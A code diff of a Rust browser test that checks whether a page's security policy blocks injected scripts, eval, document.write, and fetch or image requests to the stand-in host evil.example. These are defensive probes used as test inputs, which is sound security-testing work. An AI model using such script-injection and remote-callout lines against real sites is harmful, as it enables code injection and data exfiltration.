@@ -118,24 +118,28 @@ fn nothing_runs_or_leaves(stage: &Stage) {
     }
     let page = stage.open("");
     let tried = page.strings(
-        "const tries = {
+        "// Out of the reach of WebDriver, which lifts the policy while a script of its own begins.
+         await new Promise((done) => setTimeout(done));
+         const script = document.createElement('script');
+         const tries = {
             eval: () => (0, eval)('1'),
             function: () => new Function('return 1')(),
-            script: () => { document.createElement('script').src = 'https://evil.example/x.js'; },
-            text: () => { document.createElement('script').text = 'alert(1)'; },
-            write: () => document.write('<script>alert(1)</script>'),
+            timeout: () => setTimeout('window.ran = 1'),
+            source: () => { script.src = 'https://evil.example/x.js'; if (!script.src.includes('evil')) throw 0; },
+            text: () => { script.text = 'window.ran = 1'; },
+            write: () => { document.write('<script>window.ran = 1</script>'); if (!window.ran) throw 0; },
             fetch: () => fetch('https://evil.example/'),
-            beacon: () => new Promise((done, fail) => { const image = new Image(); image.onload = done; image.onerror = fail; image.src = 'https://evil.example/x.png'; }),
+            image: () => new Promise((done, fail) => {
+                const image = new Image(); image.onload = done; image.onerror = fail; image.src = 'https://evil.example/x.png';
+            }),
          };
          const worked = [];
          for (const [name, work] of Object.entries(tries)) { try { await work(); worked.push(name); } catch {} }
-         return worked",
+         return window.ran ? [...worked, 'ran'] : worked",
         Value::Null,
     );
-    // What is written is refused by being empty, not by an exception.
-    assert_eq!(tried, ["write"]);
+    assert_eq!(tried, [""; 0], "all of it is refused");
     assert!(page.complaints().len() >= 4, "each refusal is seen by the tests");
-    assert!(!page.heading().is_empty());
 }
 
 fn words_in_the_address_stay_words(stage: &Stage) {
